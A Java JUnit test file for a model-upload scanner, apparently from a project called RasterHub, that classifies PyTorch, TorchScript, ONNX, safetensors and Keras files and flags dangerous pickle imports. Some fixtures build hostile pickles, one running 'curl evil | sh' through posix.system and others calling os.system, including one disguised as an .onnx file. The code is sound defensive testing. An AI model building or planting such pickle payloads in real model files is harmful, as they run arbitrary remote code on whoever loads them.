package org.rasterhub.core.codescan;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.rasterhub.core.codescan.PickleBytes.aPickle;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PackageFileScannerTest {
    private static final byte[] HDF5_SIGNATURE = {(byte) 0x89, 'H', 'D', 'F', '\r', '\n', 0x1a, '\n'};

    @TempDir Path tmp;
    private final PackageFileScanner scanner = new PackageFileScanner(EnumSet.allOf(Engine.class));
    private final PackageFileScanner onnxOnly = new PackageFileScanner(EnumSet.of(Engine.ONNX_RUNTIME));

    @Test
    void recognisesAZipBasedPthAsPickledWeightsAndListsWhatItsDataPklImports() throws IOException {
        Path pth = zip("unet.pth", Map.of(
                "archive/data.pkl", PickleBytes.torchStateDict(),
                "archive/data/0", new byte[16],
                "archive/version", "3\n".getBytes(StandardCharsets.US_ASCII)));

        FileAssessment assessment = scanner.assess("unet.pth", pth);

        assertEquals(FileKind.PYTORCH_PICKLE_ARCHIVE, assessment.kind());
        assertTrue(assessment.executable());
        assertEquals(List.of("collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage"),
                assessment.imports());
        assertEquals(List.of(), assessment.dangerousImports());
        assertEquals("unet.pth!archive/data.pkl", assessment.pickles().get(0).location());
        assertFalse(assessment.runnableHere());
        assertEquals("pickled PyTorch weights: RasterHub never unpickles; export the model to ONNX "
                + "(torch.onnx.export) or TorchScript (torch.jit.script/trace) and upload that", assessment.reason());
    }

    @Test
    void warnsNeverToOpenAPthWhoseDataPklWouldRunACommand() throws IOException {
        byte[] hostile = aPickle().proto(2).global("posix", "system").binUnicode("curl evil | sh").tuple1()
                .reduce().stop().build();
        Path pth = zip("model.pth", Map.of("model/data.pkl", hostile));

        FileAssessment assessment = scanner.assess("models/model.pth", pth);

        assertEquals(List.of("posix.system"), assessment.dangerousImports());
        assertFalse(assessment.runnableHere());
        assertEquals("pickled PyTorch weights that would run posix.system when opened in Python: do not open it; "
                + "RasterHub never unpickles it", assessment.reason());
    }

    @Test
    void runsTorchScriptOnThePyTorchEngineAndAcceptsItsOwnClasses() throws IOException {
        Path pt = torchScript("model.pt");

        FileAssessment assessment = scanner.assess("model.pt", pt);

        assertEquals(FileKind.TORCHSCRIPT, assessment.kind());
        assertTrue(assessment.executable());
        assertEquals(List.of("__torch__.UNet"), assessment.imports());
        assertEquals(List.of(), assessment.unknownImports());
        assertTrue(assessment.runnableHere());
        assertEquals("TorchScript: runs on the PyTorch engine", assessment.reason());
    }

    @Test
    void scansTheDebugPicklesTorchScriptKeepsBesideItsCode() throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("model/code/__torch__.py", "class UNet(Module):\n  pass\n".getBytes(StandardCharsets.UTF_8));
        entries.put("model/code/__torch__.py.debug_pkl", aPickle().proto(2).global("posix", "system")
                .binUnicode("id").tuple1().reduce().stop().build());
        entries.put("model/data.pkl", aPickle().proto(2).global("__torch__", "UNet").emptyTuple().op(0x81)
                .stop().build());
        Path pt = zip("model.pt", entries);

        FileAssessment assessment = scanner.assess("model.pt", pt);

        assertEquals(FileKind.TORCHSCRIPT, assessment.kind());
        assertEquals(List.of("posix.system"), assessment.dangerousImports());
        assertFalse(assessment.runnableHere());
    }

    @Test
    void saysTorchScriptNeedsThePyTorchEngineWhereOnlyOnnxRuntimeIsInstalled() throws IOException {
        FileAssessment assessment = onnxOnly.assess("model.pt", torchScript("model.pt"));

        assertFalse(assessment.runnableHere());
        assertEquals("TorchScript: needs the PyTorch engine, which this RasterHub does not have; export the "
                + "model to ONNX (torch.onnx.export) and upload that", assessment.reason());
    }

    @Test
    void treatsPythonSourceAsCodeArcGisImports() throws IOException {
        Path py = write("LandCover.py", "import arcpy\nclass LandCover:\n    pass\n".getBytes(StandardCharsets.UTF_8));

        FileAssessment assessment = scanner.assess("LandCover.py", py);

        assertEquals(FileKind.PYTHON_SOURCE, assessment.kind());
        assertTrue(assessment.executable());
        assertFalse(assessment.runnableHere());
        assertEquals("Python raster function: imported by ArcGIS, never run by RasterHub", assessment.reason());
    }

    @Test
    void treatsCompiledPythonAsCode() throws IOException {
        Path pyc = write("helper.pyc", new byte[] {(byte) 0xa7, 0x0d, '\r', '\n', 0, 0, 0, 0});

        FileAssessment assessment = scanner.assess("__pycache__/helper.pyc", pyc);

        assertEquals(FileKind.PYTHON_BYTECODE, assessment.kind());
        assertTrue(assessment.executable());
        assertEquals(List.of(), assessment.notes());
    }

    @Test
    void runsAnOnnxModelOnOnnxRuntime() throws IOException {
        Path onnx = write("land_cover.onnx", new byte[] {0x08, 0x08, 0x12, 0x04, 't', 'e', 's', 't'});

        FileAssessment assessment = scanner.assess("land_cover.onnx", onnx);

        assertEquals(FileKind.ONNX, assessment.kind());
        assertFalse(assessment.executable());
        assertTrue(assessment.runnableHere());
        assertEquals("ONNX: runs on the ONNX Runtime engine", assessment.reason());
    }

    @Test
    void judgesAPickleNamedOnnxByItsBytes() throws IOException {
        Path disguised = write("model.onnx", aPickle().proto(2).global("os", "system").emptyTuple().reduce().stop()
                .build());

        FileAssessment assessment = scanner.assess("model.onnx", disguised);

        assertEquals(FileKind.PICKLE, assessment.kind());
        assertTrue(assessment.executable());
        assertEquals(List.of("os.system"), assessment.dangerousImports());
        assertFalse(assessment.runnableHere());
    }

    @Test
    void doesNotRunAFileNamedOnnxThatIsNotOne() throws IOException {
        Path text = write("model.onnx", "hello".getBytes(StandardCharsets.US_ASCII));

        FileAssessment assessment = scanner.assess("model.onnx", text);

        assertEquals(FileKind.OTHER, assessment.kind());
        assertFalse(assessment.runnableHere());
        assertEquals("named .onnx but does not start like an ONNX model (first byte 0x68 is no ModelProto "
                + "field); not a model RasterHub can run", assessment.reason());
    }

    @Test
    void recognisesSafetensorsAsWeightsWithoutCode() throws IOException {
        byte[] header = "{\"weight\":{\"dtype\":\"F32\",\"shape\":[2],\"data_offsets\":[0,8]}}"
                .getBytes(StandardCharsets.UTF_8);
        Path file = write("model.safetensors", concat(littleEndian(header.length), header, new byte[8]));

        FileAssessment assessment = scanner.assess("model.safetensors", file);

        assertEquals(FileKind.SAFETENSORS, assessment.kind());
        assertFalse(assessment.executable());
        assertFalse(assessment.runnableHere());
        assertEquals(List.of(), assessment.notes());
    }

    @Test
    void recognisesKerasHdf5AndPointsToTf2onnx() throws IOException {
        Path h5 = write("model.h5", concat(HDF5_SIGNATURE, new byte[64]));

        FileAssessment assessment = scanner.assess("model.h5", h5);

        assertEquals(FileKind.KERAS_H5, assessment.kind());
        assertFalse(assessment.executable());
        assertEquals("Keras HDF5: no engine here; convert with tf2onnx", assessment.reason());
    }

    @Test
    void treatsAKerasLambdaLayerAsCode() throws IOException {
        byte[] config = "{\"class_name\": \"Lambda\", \"config\": {\"function\": [\"4wEAAAAA\"]}}"
                .getBytes(StandardCharsets.UTF_8);
        Path h5 = write("model.h5", concat(HDF5_SIGNATURE, new byte[100_000], config));

        FileAssessment assessment = scanner.assess("model.h5", h5);

        assertTrue(assessment.executable());
        assertTrue(assessment.reason().startsWith("Keras HDF5 with a Lambda layer"), assessment.reason());
    }

    @Test
    void scansEveryPickleOfALegacyTorchSaveStreamUpToTheRawStorages() throws IOException {
        byte[] magic = aPickle().proto(2).op(0x8a).op(10)
                .bytes(new byte[] {0x6c, (byte) 0xfc, (byte) 0x9c, 0x46, (byte) 0xf9, 0x20, 0x6a, (byte) 0xa8,
                    0x50, 0x19})
                .stop().build();
        byte[] protocolVersion = aPickle().proto(2).op('M').op(0xe9).op(0x03).stop().build();
        byte[] sysInfo = aPickle().proto(2).emptyDict().stop().build();
        byte[] object = aPickle().proto(2).global("os", "system").binUnicode("id").tuple1().reduce().stop().build();
        byte[] storageKeys = aPickle().proto(2).op(']').stop().build();
        byte[] rawStorage = {(byte) 0xff, (byte) 0xfe, 0x00, 0x01};
        Path pth = write("old.pth", concat(magic, protocolVersion, sysInfo, object, storageKeys, rawStorage));

        FileAssessment assessment = scanner.assess("old.pth", pth);

        assertEquals(FileKind.PYTORCH_PICKLE_ARCHIVE, assessment.kind());
        assertEquals(List.of("os.system"), assessment.dangerousImports());
        assertTrue(assessment.scanComplete(), () -> assessment.notes().toString());
    }

    @Test
    void notesAMalformedPickleInsteadOfFailingTheUpload() throws IOException {
        Path pkl = write("model.pkl", aPickle().proto(2).op(0xff).stop().build());

        FileAssessment assessment = scanner.assess("model.pkl", pkl);

        assertEquals(FileKind.PICKLE, assessment.kind());
        assertTrue(assessment.executable());
        assertFalse(assessment.scanComplete());
        assertEquals(List.of("malformed pickle at byte 2 (opcode 0xff): unknown opcode; Python's pickle machine "
                + "(protocols 0-5) has none with this code"), assessment.notes());
    }

    @Test
    void notesAMalformedPickleInsideAZipWithItsLocation() throws IOException {
        Path pth = zip("model.pth", Map.of("archive/data.pkl", aPickle().proto(2).binInt1(1).build()));

        FileAssessment assessment = scanner.assess("model.pth", pth);

        assertFalse(assessment.scanComplete());
        assertEquals(1, assessment.notes().size());
        assertTrue(assessment.notes().get(0).startsWith("model.pth!archive/data.pkl: malformed pickle at byte 4"),
                assessment.notes().get(0));
    }

    @Test
    void keepsEachNoteOnOneLineWhateverTheEntryIsCalled() throws IOException {
        Path pth = zip("model.pth", Map.of("archive/data.pkl\nall clear.pkl", aPickle().proto(2).build()));

        FileAssessment assessment = scanner.assess("model.pth", pth);

        assertEquals(1, assessment.notes().size());
        assertTrue(assessment.notes().get(0).startsWith("model.pth!archive/data.pkl\\x0aall clear.pkl: malformed"),
                assessment.notes().get(0));
    }

    @Test
    void notesAZipThatCannotBeReadAndStillCountsAPthAsCode() throws IOException {
        Path pth = write("broken.pth", concat(new byte[] {'P', 'K', 3, 4}, new byte[40]));

        FileAssessment assessment = scanner.assess("broken.pth", pth);

        assertEquals(FileKind.PYTORCH_PICKLE_ARCHIVE, assessment.kind());
        assertTrue(assessment.executable());
        assertFalse(assessment.scanComplete());
        assertTrue(assessment.notes().get(0).startsWith("starts like a zip archive but cannot be read as one"),
                assessment.notes().get(0));
    }

    @Test
    void scansPicklesInAZipThatIsNoModel() throws IOException {
        Path zip = zip("extras.zip", Map.of("cache/state.pkl", PickleBytes.osSystemProtocol0()));

        FileAssessment assessment = scanner.assess("extras.zip", zip);

        assertEquals(FileKind.OTHER, assessment.kind());
        assertTrue(assessment.executable());
        assertEquals(List.of("os.system"), assessment.dangerousImports());
    }

    @Test
    void recognisesThePreviewsArcgisLearnWrites() throws IOException {
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13};
        Path image = write("loss_graph.png", png);
        Path html = write("metrics.html",
                "<!DOCTYPE html><html><body>mIoU</body></html>".getBytes(StandardCharsets.UTF_8));

        assertEquals(FileKind.IMAGE, scanner.assess("ModelCharacteristics/loss_graph.png", image).kind());
        assertEquals(FileKind.HTML, scanner.assess("ModelCharacteristics/metrics.html", html).kind());
    }

    @Test
    void treatsTheEmdAsAModelDefinitionThatIsNeverRun() throws IOException {
        Path emd = write("model.emd", "{\"ModelType\": \"ImageClassification\"}".getBytes(StandardCharsets.UTF_8));

        FileAssessment assessment = scanner.assess("model.emd", emd);

        assertEquals(FileKind.EMD, assessment.kind());
        assertFalse(assessment.executable());
        assertEquals("model definition: read as JSON, never run", assessment.reason());
    }

    @Test
    void refusesToFollowASymbolicLink() throws IOException {
        Path target = write("real.py", "print(1)".getBytes(StandardCharsets.US_ASCII));
        Path link = Files.createSymbolicLink(tmp.resolve("link.py"), target);

        var failure = assertThrows(IOException.class, () -> scanner.assess("link.py", link));

        assertTrue(failure.getMessage().contains("is not a regular file"), failure.getMessage());
    }

    private Path torchScript(String name) throws IOException {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("model/code/__torch__.py", "class UNet(Module):\n  __parameters__ = []\n"
                .getBytes(StandardCharsets.UTF_8));
        entries.put("model/constants.pkl", aPickle().proto(2).emptyTuple().stop().build());
        entries.put("model/data.pkl", aPickle().proto(2).global("__torch__", "UNet").emptyTuple().op(0x81)
                .emptyDict().op('b').stop().build());
        entries.put("model/version", "6\n".getBytes(StandardCharsets.US_ASCII));
        return zip(name, entries);
    }

    private Path zip(String name, Map<String, byte[]> entries) throws IOException {
        Path path = tmp.resolve(name);
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(path)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putArchiveEntry(new ZipArchiveEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeArchiveEntry();
            }
        }
        return path;
    }

    private Path write(String name, byte[] content) throws IOException {
        return Files.write(tmp.resolve(name), content);
    }

    private static byte[] littleEndian(long value) {
        return ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN).putLong(value).array();
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
